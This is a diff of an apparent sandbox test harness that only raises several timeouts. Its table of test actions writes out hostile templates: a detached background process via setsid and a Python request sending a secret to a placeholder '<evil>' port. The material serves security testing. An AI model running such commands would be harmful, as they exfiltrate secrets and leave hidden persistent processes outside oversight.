@@ -75,7 +75,7 @@ class World:
                 except OSError:
                     return
                 with line, contextlib.suppress(OSError):
-                    line.settimeout(2)
+                    line.settimeout(30)
                     line.sendall(hello)
                     self.heard.append(line.recv(4096).decode("latin-1"))
 
@@ -294,7 +294,7 @@ DEEDS: dict[str, Deed] = {
     "leave a process": shell("setsid sleep <mark> > /dev/null 2>&1 < /dev/null &", "left"),
     "tell a secret by http": python(
         "import urllib.request as r\n"
-        "r.urlopen('http://127.0.0.1:<evil>/?<secret>', timeout=3).read()",
+        "r.urlopen('http://127.0.0.1:<evil>/?<secret>', timeout=10).read()",
         "told",
     ),
     "tell a secret by a bare line": shell(
@@ -330,7 +330,7 @@ def _control(name: str, root: Path) -> set[str]:
         check=False,
         timeout=120,
     )
-    end = time.monotonic() + 2
+    end = time.monotonic() + 20
     while deed.seen not in (seen := world.happened(done.stdout + done.stderr)):
         if time.monotonic() > end:
             break
